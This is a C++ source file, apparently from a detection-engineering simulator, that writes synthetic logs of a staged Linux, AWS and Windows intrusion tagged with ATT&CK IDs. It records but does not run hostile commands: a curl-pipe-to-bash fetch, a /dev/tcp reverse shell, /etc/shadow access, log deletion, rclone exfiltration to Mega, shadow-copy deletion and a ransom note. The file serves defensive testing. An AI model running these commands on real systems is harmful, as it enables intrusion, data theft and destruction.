// SPDX-License-Identifier: Apache-2.0
#include "core/world/intrusion_steps.h"

#include "core/world/audit.h"
#include "core/world/cloud.h"

#include <vector>

namespace rulewright::world {

using Arguments = std::vector<std::string_view>;

void breakIntoWebServer(Intrusion& at)
{
    AuditLog log(at.r, webServer);
    at.r.setAttack({"T1059.004", "T1105"});
    const std::string fetch = std::format("curl -s http://{}/l | bash", at.controlAddress);
    log.run(at.soon(), linuxWeb, "/usr/bin/dash", Arguments{"sh", "-c", fetch}, "web");
    const std::string address = std::format("http://{}/l", at.controlAddress);
    log.run(at.soon(), linuxWeb, "/usr/bin/curl", Arguments{"curl", "-s", address}, "web");
    at.r.setAttack({"T1059.004"});
    const std::string back = std::format("bash -i >& /dev/tcp/{}/4443 0>&1", at.controlAddress);
    log.run(at.soon(), linuxWeb, "/usr/bin/bash", Arguments{"bash", "-c", back}, "web");
    at.r.setAttack({"T1003.008"});
    log.touch(at.soon(), linuxRoot, "/usr/bin/cat", "/etc/shadow", "NORMAL", "identity");
    at.r.setAttack({"T1098.004"});
    log.touch(at.soon(), linuxRoot, "/usr/bin/bash", "/root/.ssh/authorized_keys", "CREATE", "ssh");
    at.r.setAttack({"T1053.003"});
    const std::string job = std::format("/etc/cron.d/{}", at.fileName);
    log.touch(at.soon(), linuxRoot, "/usr/bin/bash", job, "CREATE", "cron");
    at.r.setAttack({"T1543.002"});
    const std::string unit = std::format("/etc/systemd/system/{}.service", at.fileName);
    log.touch(at.soon(), linuxRoot, "/usr/bin/bash", unit, "CREATE", "systemd");
    log.service(at.soon(), at.fileName, true);
    at.r.setAttack({"T1219.002"});
    log.run(at.soon(), linuxRoot, "/tmp/.x/anydesk", Arguments{"/tmp/.x/anydesk", "--get-id"}, "tmp");
    at.r.setAttack({"T1685.006"});
    log.touch(at.soon(), linuxRoot, "/usr/bin/rm", "/var/log/auth.log", "DELETE", "logs");
}

void takeCloudAccount(Intrusion& at)
{
    at.r.setAttack({"T1078.004"});
    const std::string_view agent = "Mozilla/5.0 (X11; Linux x86_64) Firefox/135.0";
    call(at.r, at.soon(),
        {.source = "signin",
            .name = "ConsoleLogin",
            .userName = "m.osei",
            .role = {},
            .address = at.controlAddress,
            .agent = agent,
            .response = R"({"ConsoleLogin":"Success"})",
            .more
            = R"(,"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/","MobileVersion":"No","MFAUsed":"No"})"});
    at.r.setAttack({"T1098.001"});
    call(at.r, at.soon(),
        {.source = "iam",
            .name = "CreateAccessKey",
            .userName = "m.osei",
            .role = {},
            .address = at.controlAddress,
            .agent = agent,
            .parameters = R"({"userName":"deploy-bot"})",
            .response
            = R"({"accessKey":{"userName":"deploy-bot","status":"Active","accessKeyId":"AKIAEXAMPLEBOT9"}})"});
    at.r.setAttack({"T1098.003"});
    call(at.r, at.soon(),
        {.source = "iam",
            .name = "AttachUserPolicy",
            .userName = "m.osei",
            .role = {},
            .address = at.controlAddress,
            .agent = agent,
            .parameters = R"({"userName":"deploy-bot","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"})"});
    at.r.setAttack({"T1685.002"});
    call(at.r, at.soon(),
        {.source = "cloudtrail",
            .name = "StopLogging",
            .userName = "deploy-bot",
            .role = {},
            .address = at.controlAddress,
            .parameters = R"({"name":"larkfield-trail"})"});
    at.r.setAttack({"T1686.001"});
    call(at.r, at.soon(),
        {.source = "ec2",
            .name = "AuthorizeSecurityGroupIngress",
            .userName = "deploy-bot",
            .role = {},
            .address = at.controlAddress,
            .parameters
            = R"({"groupId":"sg-0a1b2c3d","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,)"
              R"("ipRanges":{"items":[{"cidrIp":"10.20.0.0/16"}]}},{"ipProtocol":"tcp","fromPort":22,"toPort":22,)"
              R"("ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}})",
            .response = R"({"_return":true})"});
    at.r.setAttack({"T1537"});
    call(at.r, at.soon(),
        {.source = "ec2",
            .name = "ModifySnapshotAttribute",
            .userName = "deploy-bot",
            .role = {},
            .address = at.controlAddress,
            .parameters
            = R"({"snapshotId":"snap-09f1","attributeType":"CREATE_VOLUME_PERMISSION","createVolumePermission":)"
              R"({"add":{"items":[{"userId":"999988887777"}]}}})",
            .response = R"({"_return":true})"});
}

void carryOff(Intrusion& at, const Desk& desk, const Process& loader)
{
    at.r.setAttack({"T1113"});
    at.r.runScript(at.soon(), loader,
        "Add-Type -AssemblyName System.Drawing; $g=[Drawing.Graphics]::FromImage($b); "
        "$g.CopyFromScreen(0,0,0,0,$b.Size)");
    at.r.setAttack({"T1560.001"});
    at.r.runScript(at.soon(), loader,
        std::format("Compress-Archive -Path S:\\ -DestinationPath C:\\Users\\Public\\{}.zip", at.fileName));
    static_cast<void>(at.r.start(at.soon(), loader, "C:\\Users\\Public\\7z.exe",
        std::format("C:\\Users\\Public\\7z.exe a -phidden77 C:\\Users\\Public\\{}.7z C:\\Users\\{}\\Documents",
            at.fileName, user(*desk.session.user).name)));
    at.r.setAttack({"T1567.002"});
    const Process copier = at.r.startRenamed(at.soon(), loader, "C:\\Users\\Public\\svhost.exe",
        std::format("C:\\Users\\Public\\svhost.exe copy C:\\Users\\Public\\{}.7z mega:lark --transfers 8", at.fileName),
        "rclone.exe");
    at.r.query(at.soon(), copier, "g.api.mega.co.nz", "192.0.2.75");
    at.r.connect(at.soon(), copier, "192.0.2.75", "g.api.mega.co.nz", 443);
}

void destroy(Intrusion& at, const Process& remote)
{
    at.r.setAttack({"T1490"});
    static_cast<void>(at.run(remote, "vssadmin.exe", "vssadmin delete shadows /all /quiet"));
    at.r.setAttack({"T1489"});
    static_cast<void>(at.run(remote, "sc.exe", "sc config avagent start= disabled"));
    static_cast<void>(at.run(remote, "net.exe", "net stop avagent /y"));
    at.r.setAttack({"T1486"});
    const Process locker = at.r.start(at.soon(), remote, std::format("C:\\PerfLogs\\{}.exe", at.fileName),
        std::format("C:\\PerfLogs\\{}.exe --path D:\\shared", at.fileName));
    for (const std::string_view folder : {"Quotes", "Plans", "Invoices"})
        at.r.createFile(at.soon(), locker, std::format("D:\\shared\\{}\\HOW_TO_DECRYPT.txt", folder));
}

} // namespace rulewright::world
